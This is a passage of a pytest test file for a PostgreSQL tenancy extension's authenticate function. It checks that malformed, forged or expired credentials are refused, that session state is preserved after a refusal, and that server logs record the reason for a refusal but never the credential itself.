          "====.====.====", "AAAA.AAAA.AAAA", "\x01\x02\x03", "\n", "é.é.é", "💣", "💣.💣.💣", "x" * 8192, "." * 8192, "x" * 100_000,
          "." * 100_000, "x." * 50_000]  # fmt: skip


@pytest.mark.parametrize("attack", SIMPLE, ids=lambda text: repr(text)[:30])
def test_nonsense(client, attack):
    """What nobody would take for a credential."""
    refuse(client, attack)


def test_longest_token(client):
    """8 KiB are looked at, not a byte more: with the very same, right signature."""
    def of(length):
        for padding_ in range(length * 3 // 4, 0, -1):
            made = compact(HEADER, {**RIGHT, "x": "x" * padding_})
            if len(made) <= length:
                return made

    for length in 8192, 8191, 8190:
        made = of(length)
        if len(made) == length:
            assert authenticate(client, made)["user_id"] == "alice"
            break
    refuse(client, compact(HEADER, {**RIGHT, "x": "x" * 6100}))
    refuse(client, compact(HEADER, {**RIGHT, "x": "x" * 1_000_000}))
    authenticate(client, token(claims("alice")))


@pytest.mark.parametrize("encoding", ["SQL_ASCII", "LATIN1"])
def test_another_encoding(cluster, encoding):
    """A database where text may be any bytes, or another alphabet: the same refusal, whatever they are."""
    name = f"encoded_{encoding.lower()}"
    with cluster.connect() as admin:
        admin.execute(f"CREATE DATABASE {name} ENCODING '{encoding}' LOCALE 'C' TEMPLATE template0")
    with cluster.connect(name) as admin:
        admin.execute("CREATE EXTENSION amp_tenancy")
    with cluster.connect(name, "amp_client") as session:
        session.execute(f"SET client_encoding = '{encoding}'")
        refused = []
        for attack in "'abc'", r"E'\xff\xfe'", r"E'a.\xe9.b'", "chr(200)", r"E'amp_sk_\xe9'", r"E'\xc3'":
            with raises("TN003") as caught:
                session.execute(f"SELECT amp.authenticate({attack})")
            refused.append(said(caught.value))
        assert all(each == refused[0] for each in refused)


# The session, and the server's log.


def test_refused_in_a_transaction(amp):
    """A refusal in a transaction: after ROLLBACK TO a savepoint it goes on as who it was, with what it set and wrote."""
    with amp.connect("amp_client", autocommit=False) as session:
        authenticate(session, token(claims("alice")))
        session.execute("SET LOCAL work_mem = '77MB'")
        session.execute("UPDATE orders SET amount = 77 WHERE id = 11")
        for attack in "nonsense", token(claims("bob"), OTHER), "amp_sk_" + "x" * 48:
            session.execute("SAVEPOINT a")
            with raises("TN003"):
                authenticate(session, attack)
            with raises("25P02"):
                notes(session)
            session.execute("ROLLBACK TO a")
            assert notes(session) == MINE and column(session, "SELECT amp.user_id()") == ["alice"]
        assert session.execute("SHOW work_mem").fetchone() == ("77MB",)
        assert column(session, "SELECT amount FROM orders WHERE id = 11") == [77]
        session.rollback()
        with raises("TN001"):
            notes(session)


def test_refused_in_an_exception_block(client):
    """PL/pgSQL catches the refusal: nothing of the refused credential stays."""
    client.execute("""
        DO $$ BEGIN
            PERFORM amp.authenticate('nonsense');
            RAISE EXCEPTION 'accepted';
        EXCEPTION WHEN SQLSTATE 'TN003' THEN PERFORM set_config('application_name', 'before', false); END $$""")
    assert column(client, "SELECT amp.user_id()") == ["alice"]


def test_refused_in_a_service_session(amp):
    """A service that names its tenant tries a wrong credential: its own context stays."""
    with amp.connect("amp_svc") as svc:
        svc.execute("SET amp.tenant_id = 't1'")
        refuse(svc, token(claims("bob"), OTHER))
        assert notes(svc) == MINE


@pytest.fixture
def log(cluster):
    """log(): what the server has written since the test began."""
    begin = os.path.getsize(cluster.log)

    def since():
        with open(cluster.log, "rb") as file:
            file.seek(begin)
            return file.read().decode(errors="replace")

    return since


def refused_credentials():
    yield "the token's signature is not its signing key's", token(claims("alice"), OTHER)
    yield "the token's signing key (kid) is unknown or retired", token(claims("alice"), kid="nobodys")
    yield "the token's user (sub) is unknown", token(claims("nobody-at-all"))
    yield "the token's audience (aud) is not the signing key's", token(claims("alice", aud="elsewhere"))
    yield "the API key is unknown", "amp_sk_" + "k" * 48
    yield "it is neither an API key nor a token in compact form", "my-password-hunter2"
    yield "credential has expired", token(claims("alice", exp=1000))


@pytest.mark.parametrize("reason, credential", [pytest.param(*each, id=each[0]) for each in refused_credentials()])
@pytest.mark.parametrize("way", ["SELECT amp.authenticate('{}')", "SELECT 1; SELECT amp.authenticate('{}')",
                                 "DO $$ BEGIN PERFORM amp.authenticate('{}'); END $$",
                                 "DO $$ DECLARE c text := '{}'; BEGIN PERFORM amp.authenticate(c); END $$",
                                 "EXPLAIN ANALYZE SELECT amp.authenticate('{}')"])  # fmt: skip
def test_the_log_has_the_reason_and_not_the_credential(client, log, way, reason, credential):
    """Whoever reads the server's log learns why, and nothing that he could use: not the statement, not the credential.
    A literal in PL/pgSQL is no exception: CONTEXT would quote its statement.
    """
    with pytest.raises(Exception) as caught:
        client.execute(way.format(credential))
    assert caught.value.sqlstate in ("TN003", "TN007")
    written = log()
    assert reason in written
    for secret in credential, credential[-20:], "amp.authenticate('":
        assert secret not in written


def test_the_log_has_no_parameter(amp, log):
    """The same as a parameter, on a server that was told to log the parameters of what fails."""
    credential = token(claims("alice"), OTHER)
    with amp.connect() as admin:
        for length in 0, -1:
            admin.execute(f"ALTER DATABASE {amp.name} SET log_parameter_max_length_on_error = {length}")
            with amp.connect("amp_client") as client, raises("TN003"):
                authenticate(client, credential)
        admin.execute(f"ALTER DATABASE {amp.name} RESET log_parameter_max_length_on_error")
    assert "is not its signing key's" in log() and credential[-20:] not in log()


def test_the_log_has_no_right_credential_either(amp, log):
    """A right one that is of no use here: a superuser's session, an operator's, a locked context, a tenant that is shut."""
    right, shut = token(claims("alice")), token(claims("alice", "asleep"))
    for role, sqlstate in ("postgres", "TN009"), ("amp_ops", "TN003"):
        with amp.connect(role) as session, raises(sqlstate):
            session.execute(f"SELECT amp.authenticate('{right}')")
    with amp.connect("amp_client", autocommit=False) as session:
        authenticate(session, token(claims("alice")))
        session.execute("SELECT amp.lock_context()")
        with raises("TN006"):
            session.execute(f"SELECT amp.authenticate('{right}')")
    with amp.connect("amp_client") as session, raises("TN002"):
        session.execute(f"SELECT amp.authenticate('{shut}')")
    for credential in right, shut:
        assert credential[-20:] not in log()


def test_cancelled_while_it_waits(client, log):
    """A statement_timeout cannot cut the refusal's wait short: a cancelled statement would be logged, with the credential."""
    client.execute("SET statement_timeout = '5ms'")
    with raises("TN003") as caught:
        client.execute("SELECT amp.authenticate('my-password-hunter2')")
    client.execute("RESET statement_timeout")
    assert caught.value.diag.message_detail is None
    assert "hunter2" not in log()
